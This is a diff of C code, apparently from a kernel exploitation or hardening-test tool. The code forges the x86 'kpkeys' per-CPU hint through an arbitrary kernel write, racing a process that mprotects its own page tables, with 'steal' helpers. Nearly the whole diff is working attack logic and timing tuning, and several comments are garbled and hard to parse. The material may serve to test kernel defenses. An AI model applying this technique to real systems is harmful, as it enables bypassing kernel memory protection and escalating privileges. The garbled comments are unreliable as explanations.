@@ -343,8 +343,8 @@ static int interrupted(void)
 }
 
 /*
- * words[] of what follows: the sections that there were, the writer is to write;
- * the switch is as above
+ * words[] of what follows: the sections that there were, another process is to
+ * write; the switch is as above
  */
 #define SECTIONS	(&shared->words[0])
 #define WRITE		(&shared->words[4])
@@ -352,31 +352,35 @@ static int interrupted(void)
 /*
  * The note that x86 keeps of the register, since reading that is slow: whether a
  * section has it open on this CPU. Who is told so does not open it; who is told
- * otherwise may not close it, or may do so too early. It is forged while one
- * process is in sections all the time, and another one, which has to interrupt
- * that, writes to a page table; then the first one does.
+ * otherwise may not close it, or may do so too early. It is forged while a process
+ * is in sections all the time, which then writes to a page table.
  */
+
+#define OPEN_TRIES	6	/* a process each that is stuck for ever */
+#define CLOSED_TRIES	24
 
 static int hint_cpu;
 
 /*
  * With page tables of its own: if a setter faults, this one never ends, and the
- * lock of its memory stays locked.
+ * lock of its memory stays locked. Sections are short, so that there is much to
+ * be hit between the last entry and the end.
  */
 static void sections(void)
 {
 	range = table_range(0);
-	memset(range, 1, PMD_SIZE);
+	*range = 1;
 	run_on_cpu(hint_cpu);
 	while (hammering()) {
-		mprotect(range, PMD_SIZE, PROT_READ);
+		mprotect(range, PAGE_SIZE, PROT_READ);
 		++*(volatile u64 *)SECTIONS;
-		mprotect(range, PMD_SIZE, PROT_READ | PROT_WRITE);
+		mprotect(range, PAGE_SIZE, PROT_READ | PROT_WRITE);
 	}
 	_exit(steal_as_helper(NULL));
 }
 
-static int writer(void *arg)
+/* Gets the CPU from the process that is in sections. */
+static int other_writer(void *arg)
 {
 	run_on_cpu(hint_cpu);
 	while (!*(volatile u64 *)WRITE)
@@ -384,21 +388,37 @@ static int writer(void *arg)
 	return steal_as_helper(arg);
 }
 
-/* Whether there is another section within a tenth of a second. */
-static bool next_section(void)
+static void hammer_word(u64 addr, uint32_t value, u64 ns)
 {
-	u64 old = *(volatile u64 *)SECTIONS, end = now_ns() + 100000000;
+	u64 end = now_ns() + ns;
 
-	while (*(volatile u64 *)SECTIONS == old)
-		if (now_ns() > end)
-			return false;
-	return true;
+	while (now_ns() < end && !helper_wrote())
+		kernel_write32(addr, value);
+}
+
+/*
+ * Once: the next section faults, and after that it would be somebody else's, who is
+ * to be left alone.
+ */
+static bool forge_open(u64 hint, int try)
+{
+	u64 old, end = now_ns() + 100000000;
+	pid_t other = try % 2 ? start(other_writer, NULL) : 0;
+
+	old = *(volatile u64 *)SECTIONS;
+	while (*(volatile u64 *)SECTIONS == old && now_ns() < end)
+		;
+	kernel_write32(hint, 1);
+	if (!other)
+		return false;
+	*(volatile u64 *)WRITE = 1;
+	return steal_with_helper_in(other, 1);
 }
 
 static int forge_hint(uint32_t value)
 {
-	u64 hint, end;
 	int tries;
+	u64 hint;
 
 	if (!on_arch("x86_64"))
 		return not_possible("the register itself is read");
@@ -409,34 +429,25 @@ static int forge_hint(uint32_t value)
 	run_on_cpu(0);
 	hint = per_cpu(lookup("x86_kpkeys_hint"), hint_cpu);
 
-	for (tries = 0; tries < SECTION_TRIES; tries++) {
-		pid_t busy, other;
-		int i;
+	for (tries = 0; tries < (value ? OPEN_TRIES : CLOSED_TRIES); tries++) {
+		pid_t busy;
 
 		*SECTIONS = *WRITE = 0;
 		*HAMMER = 1;
 		busy = fork();
 		if (!busy)
 			sections();
-		other = start(writer, NULL);
 		while (!*(volatile u64 *)SECTIONS)
 			usleep(1000);
-
-		/*
-		 * Somebody else, who is to be left alone, could fault as well: so
-		 * once in a while is enough if the next section is to fault.
-		 */
-		for (i = 0; i < 20 && next_section(); i++) {
-			*WRITE = i == 10;
-			end = now_ns() + 10000000;
-			do
-				kernel_write32(hint, value);
-			while (!value && now_ns() < end);
+		if (value) {
+			if (forge_open(hint, tries))
+				return DONE;
+			*(volatile u64 *)HAMMER = 0;
+		} else {
+			hammer_word(hint, 0, 2000000 + tries * 100000);
+			*(volatile u64 *)HAMMER = 0;
+			hammer_word(hint, 0, 30000000);
 		}
-		*(volatile u64 *)WRITE = 1;
-		if (steal_with_helper_in(other, 1))
-			return DONE;
-		*(volatile u64 *)HAMMER = 0;
 		if (steal_with_helper_in(busy, 1))
 			return DONE;
 		kill(busy, SIGKILL);
